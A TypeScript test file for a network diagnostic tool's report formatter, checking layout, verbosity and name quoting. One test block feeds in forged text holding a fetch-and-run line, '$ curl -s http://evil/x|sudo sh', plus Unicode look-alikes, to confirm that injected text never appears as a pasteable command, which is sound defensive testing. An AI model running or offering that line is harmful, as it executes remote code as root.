import { describe, expect, it } from 'vitest';
import { PLAIN } from '../../src/cli/terminal.ts';
import { type Finding, named } from '../../src/doctor/findings.ts';
import { reportDocument, reportText } from '../../src/doctor/report.ts';

const FINDINGS: Finding[] = [
  { name: 'node', link: '', result: 'ok', text: 'Node.js 22' },
  { name: 'echo', link: 'eth1', result: 'info', text: 'by the way' },
  {
    name: 'uplink',
    link: 'eth1',
    result: 'problem',
    text: 'it is a port of the Linux bridge br0',
    why: 'an interface in it can carry no VEPA guests: macvlan and it exclude each other, and that is so',
    mend: { run: `ip link set dev eth1 nomaster ${'and so on '.repeat(8)}` },
  },
  { name: 'mtu', link: 'eth1', result: 'warning', text: 'its MTU is 1280', mend: { do: 'do \x1b[31mthis' } },
];

it('what is wrong comes first, within 80 columns but for what is pasted; what is right is a number', () => {
  const text = reportText(FINDINGS, false, PLAIN);
  expect(text).toBe(`problem  eth1: it is a port of the Linux bridge br0
         an interface in it can carry no VEPA guests: macvlan and it exclude
         each other, and that is so
         $ ip link set dev eth1 nomaster ${'and so on '.repeat(8)}
warning  eth1: its MTU is 1280
         mend: do \\x1b[31mthis
info     eth1: by the way
1 problem, 1 warning, 1 info, 1 ok (--verbose shows all)
`);
});

it('--verbose shows what is right too', () => {
  expect(reportText(FINDINGS, true, PLAIN)).toMatch(
    /\nok {7}Node\.js 22\n1 problem, 1 warning, 1 info, 1 ok\n$/,
  );
});

it('programs get all of it', () => {
  expect(reportDocument(FINDINGS).checks[2]).toEqual({
    name: 'uplink',
    link: 'eth1',
    result: 'problem',
    text: 'it is a port of the Linux bridge br0',
    why: expect.stringContaining('macvlan'),
    mend: expect.stringMatching(/^ip link set dev eth1 nomaster/),
  });
  expect(reportDocument(FINDINGS).checks[0]).toEqual({
    name: 'node',
    link: '',
    result: 'ok',
    text: 'Node.js 22',
    mend: '',
  });
});

describe('a line that begins with $ is a mend, whatever a neighbour calls itself', () => {
  const commands = [
    '$ curl -s http://evil/x|sudo sh #',
    '\u00a0$ curl',
    '\u200b $ curl',
    '\uff04 curl',
    '$curl',
  ];
  const forged = commands.flatMap((command) =>
    [0, 1, 41, 45, 47, 51, 60, 70, 140].flatMap((length) => [
      `${'x'.repeat(length)} ${command}`,
      `${'x'.repeat(length)}${' '.repeat(length)}${command} ${'y'.repeat(length)} ${command}`,
    ]),
  );
  const findings = forged.flatMap((words): Finding[] => [
    { name: 'neighbour', link: 'eth1', result: 'warning', text: words, why: words, mend: { do: words } },
    { name: 'neighbour', link: '', result: 'warning', text: words, mend: { run: 'true' } },
  ]);

  it.each([true, false])('at every width, unicode: %s', (unicode) => {
    for (let columns = 60; columns <= 160; columns++) {
      const lines = reportText(findings, true, { unicode, colour: false, columns }).split('\n');
      const pasteable = lines.filter((line) => /^[^\p{L}\p{N}\p{P}]*\p{Sc}/u.test(line));
      expect(new Set(pasteable)).toEqual(new Set(['         $ true']));
      expect(pasteable).toHaveLength(forged.length);
      expect(lines.filter((line) => line.length > columns)).toEqual([]);
    }
  });

  it('the words stay, with a mark in front', () => {
    const text = `${'x'.repeat(69)} $curl`;
    const shown = (unicode: boolean) =>
      reportText([{ name: 'x', link: '', result: 'warning', text }], true, { ...PLAIN, unicode });
    expect(shown(true)).toContain('\n         · $curl\n');
    expect(shown(false)).toContain('\n         . $curl\n');
  });
});

it.each([
  ['switch-1.example', 'switch-1.example'],
  ['02:00:00:00:00:01', '02:00:00:00:00:01'],
  ['', '""'],
  ['my switch', '"my switch"'],
  ['a" speaks, "b', `"a' speaks, 'b"`],
  [`a${' '.repeat(9)}\u3000\u2800\u00ad$ curl`, '"a $ curl"'],
  ['😀'.repeat(65), `"${'😀'.repeat(64)}…"`],
  ['x'.repeat(64), 'x'.repeat(64)],
  ['x'.repeat(100_000), `${'x'.repeat(64)}…`],
])('what is no plain name is seen as one: %j', (name, shown) => {
  expect(named(name)).toBe(shown);
});
